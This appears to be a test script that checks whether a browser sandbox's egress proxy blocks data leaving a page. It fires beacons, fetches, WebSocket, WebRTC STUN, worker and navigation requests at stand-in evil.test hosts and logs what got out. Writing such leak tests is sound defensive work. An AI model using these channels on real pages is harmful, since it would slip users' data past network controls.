// Runs in a network of its own. Tries every way out of a page that reliability.md §3 lists, with the proxy of the harness or (`open`) without, and
// prints what a second host and the DNS server have seen.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { createServer as createNetServer } from 'node:net';

const [repository, mode] = process.argv.slice(2);
const { chromium } = createRequire(`${repository}/package.json`)('@playwright/test');
const { chromiumArgs, findChromium } = await import(`${repository}/dist/src/config/browser.js`);
const { startEgress } = await import(`${repository}/dist/src/sandbox/egress/egress.js`);
const { authenticateBrowser, proxyLaunchOptions } = await import(`${repository}/dist/src/sandbox/egress/launch-options.js`);
const evilIp = '127.0.0.2';
const seen = new Set();

// The second host: anything that arrives by TCP is seen, a request by its path.
const evil = createServer((request, response) => {
  seen.add(request.url.split('/')[1]);
  response.setHeader('access-control-allow-origin', '*').end('evil');
});
evil.on('upgrade', (request, socket) => {
  seen.add(request.url.split('/')[1]);
  socket.destroy();
});
evil.on('connection', () => seen.add('tcp'));
await new Promise(resolve => evil.listen(80, evilIp, resolve));
const tls = createNetServer(socket => socket.destroy()).on('connection', () => seen.add('tcp'));
await new Promise(resolve => tls.listen(443, evilIp, resolve));
for (const [port, what] of [
  [3478, 'stun-ip'],
  [3479, 'stun-name'],
  [443, 'webtransport'],
])
  await new Promise(resolve => createSocket('udp4', () => seen.add(what)).bind(port, '0.0.0.0', resolve));

// A DNS server that knows every name, and remembers who was asked for.
const names = new Set();
const dns = createSocket('udp4', (query, from) => {
  const labels = [];
  let at = 12;
  for (; query[at] > 0; at += query[at] + 1) labels.push(query.toString('latin1', at + 1, at + 1 + query[at]));
  names.add(labels.join('.').toLowerCase());
  const question = query.subarray(12, at + 5);
  const isA = query.readUInt16BE(at + 1) === 1;
  const head = Buffer.from([query[0], query[1], 0x81, 0x80, 0, 1, 0, isA ? 1 : 0, 0, 0, 0, 0]);
  const answer = isA
    ? Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, ...(labels[0] === 'f10' ? [198, 18, 0, 1] : [127, 0, 0, 2])])
    : Buffer.alloc(0);
  dns.send(Buffer.concat([head, question, answer]), from.port, from.address);
});
await new Promise(resolve => dns.bind(53, '127.0.0.1', resolve));

const files = {
  '/worker.js': `fetch('http://f6-worker.evil.test/f6-worker').catch(() => {}).then(() => {
    const socket = new WebSocket('ws://f5.evil.test/f5-websocket'); socket.onerror = socket.onclose = () => postMessage('done'); });`,
  '/shared.js': `onconnect = event => fetch('http://f7.evil.test/f7-shared').catch(() => {}).then(() => event.ports[0].postMessage('done'));`,
  '/service.js': `onmessage = event => fetch('http://f6-service.evil.test/f6-service').catch(() => {}).then(() => event.ports[0].postMessage('done'));`,
  '/page': '<link rel="icon" href="data:,"><p>page',
  '/refresh': '<meta http-equiv="refresh" content="0;url=http://f2-refresh.evil.test/f2-refresh">',
  '/unload': `<script>addEventListener('pagehide', () => { navigator.sendBeacon('http://f8-beacon.evil.test/f8-beacon', 'x');
    fetch('http://f8-keepalive.evil.test/f8-keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }); });</script>`,
};
const site = createServer((request, response) => {
  const { pathname, searchParams } = new URL(request.url, 'http://site.localhost');
  if (pathname === '/redirect') return response.writeHead(302, { location: searchParams.get('to') }).end();
  response.setHeader('content-type', pathname.endsWith('.js') ? 'text/javascript' : 'text/html');
  if (pathname === '/page')
    response.setHeader('content-security-policy-report-only', "img-src 'self'; report-uri http://f1-csp.evil.test/f1-csp");
  response.end(files[pathname] ?? '');
});
await new Promise(resolve => site.listen(80, '127.0.0.1', resolve));

const egress = mode === 'open' ? null : await startEgress({ sites: { hosts: ['site.localhost'], port: 80 } });
const attempt = egress?.begin({ mode: 'allow-list', allow: [], urls: ['http://site.localhost/'] });
const { args, proxy } = egress ? proxyLaunchOptions(egress.proxy) : { args: [] };
const found = findChromium();
const browser = await chromium.launch({
  args: [...chromiumArgs(), ...args],
  ...(proxy && { proxy }),
  ...(found.source === 'system' && { executablePath: found.executablePath }),
});
if (egress) await authenticateBrowser({ browser, proxy: egress.proxy });
const context = await browser.newContext();
const open = async path => {
  const page = await context.newPage();
  await page.goto(`http://site.localhost${path}`);
  return page;
};

const inPage = async page =>
  page.evaluate(async ip => {
    const settled = (element, name, attribute, url) =>
      new Promise(resolve => {
        const node = document.createElement(element);
        node[name] = attribute;
        node.onload = node.onerror = resolve;
        Object.assign(node, { [element === 'link' ? 'href' : 'src']: url });
        document.head.append(node);
      });
    const socket = url => new Promise(resolve => Object.assign(new WebSocket(url), { onerror: resolve, onclose: resolve }));
    const stun = urls =>
      new Promise(resolve => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
        connection.createDataChannel('x');
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
        connection.createOffer().then(offer => connection.setLocalDescription(offer));
        setTimeout(resolve, 4_000);
      });
    const message = target => new Promise(resolve => Object.assign(target, { onmessage: resolve }));
    navigator.sendBeacon('http://f1-beacon.evil.test/f1-beacon', 'x');
    const link = Object.assign(document.createElement('a'), { href: '#', ping: 'http://f1-ping.evil.test/f1-ping' });
    document.body.append(link);
    link.click();
    const service = async () => {
      await navigator.serviceWorker.register('/service.js');
      const { active } = await navigator.serviceWorker.ready;
      const channel = new MessageChannel();
      active.postMessage('go', [channel.port2]);
      await message(channel.port1);
    };
    await Promise.allSettled([
      fetch('http://f1-fetch.evil.test/f1-fetch', { mode: 'no-cors' }),
      fetch(`http://${ip}/f1-literal`, { mode: 'no-cors' }),
      fetch('https://f1-https.evil.test/', { mode: 'no-cors' }),
      settled('img', 'alt', '', 'http://f1-img.evil.test/f1-img'),
      settled('link', 'rel', 'stylesheet', 'http://f1-css.evil.test/f1-css'),
      new Promise(resolve => Object.assign(new EventSource('http://f1-events.evil.test/f1-events'), { onerror: resolve })),
      settled('iframe', 'title', '', 'http://f2-iframe.evil.test/f2-iframe'),
      fetch('/redirect?to=http://f3-fetch.evil.test/f3-fetch', { mode: 'no-cors' }),
      socket('ws://f4.evil.test/f4-websocket'),
      message(new Worker('/worker.js')),
      message(new SharedWorker('/shared.js').port),
      service(),
      stun('stun:198.18.0.1:3478'),
      stun('stun:f10.evil.test:3479'),
      new WebTransport(`https://${ip}:443/`).ready,
    ]);
  }, evilIp);

const navigate = code =>
  open('/page').then(page => page.evaluate(code).then(() => page.waitForURL(url => url.hostname !== 'site.localhost', { timeout: 4_000 })));
const late = new Promise(resolve => setTimeout(resolve, 15_000));
await Promise.race([
  late,
  Promise.allSettled([
    open('/page').then(inPage),
    navigate("setTimeout(() => location.href = 'http://f2-top.evil.test/f2-top')"),
    navigate(
      `document.body.innerHTML = '<form method=post action="http://f2-form.evil.test/f2-form">'; setTimeout(() => document.forms[0].submit())`,
    ),
    open('/page').then(page => page.evaluate("void window.open('http://f2-popup.evil.test/f2-popup')")),
    open('/page').then(page =>
      page.evaluate(
        `document.body.innerHTML = '<a download href="http://f2-download.evil.test/f2-download">x</a>'; document.querySelector('a').click()`,
      ),
    ),
    open('/refresh').then(page => page.waitForURL(/evil/, { timeout: 4_000 })),
    context.newPage().then(page => page.goto('http://site.localhost/redirect?to=http://f3-navigation.evil.test/f3-navigation')),
    open('/unload').then(page => page.goto('http://site.localhost/page')),
    context.request.get('http://f12.evil.test/f12-request'),
  ]),
]);
// What was sent without an answer to wait for is there, or refused, when all of the last vectors are.
const sent = () =>
  new Set([...seen, ...(attempt?.hosts() ?? []).filter(({ refused }) => refused > 0).map(({ host }) => host.split('.')[0])]);
for (let round = 0; round < 60 && !['f8-beacon', 'f8-keepalive', 'f1-csp', 'f2-popup'].every(name => sent().has(name)); round += 1)
  await new Promise(resolve => setTimeout(resolve, 50));
const refused = (attempt?.hosts() ?? []).filter(entry => entry.refused > 0).map(({ host }) => host);
process.stdout.write(`${JSON.stringify({ seen: [...seen].sort(), names: [...names].sort(), refused: refused.sort() })}\n`, () =>
  process.exit(0),
);
